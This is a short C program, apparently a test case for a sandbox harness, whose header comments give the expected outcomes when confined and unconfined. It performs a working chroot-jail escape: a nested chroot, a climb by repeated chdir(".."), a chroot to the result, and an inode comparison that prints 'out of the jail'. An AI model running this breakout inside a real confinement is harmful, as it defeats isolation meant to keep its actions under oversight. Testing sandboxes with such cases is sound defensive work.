// goal: leave the root through a second chroot(2) and a climb by ..
// confined: forbidden_syscall
// unconfined: root 0
// prints: out of the jail
#define _GNU_SOURCE
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    struct stat before, after;
    stat("/", &before);
    mkdir("jail", 0755);
    if (chroot("jail") != 0) return 1; // now inside, with the working directory outside
    for (int i = 0; i < 64; i++)
        if (chdir("..") != 0) return 2;
    if (chroot(".") != 0) return 3;
    stat("/", &after);
    rmdir("jail");
    printf("%s\n", before.st_ino == after.st_ino && before.st_dev == after.st_dev ? "out of the jail" : "still inside");
    return 0;
}
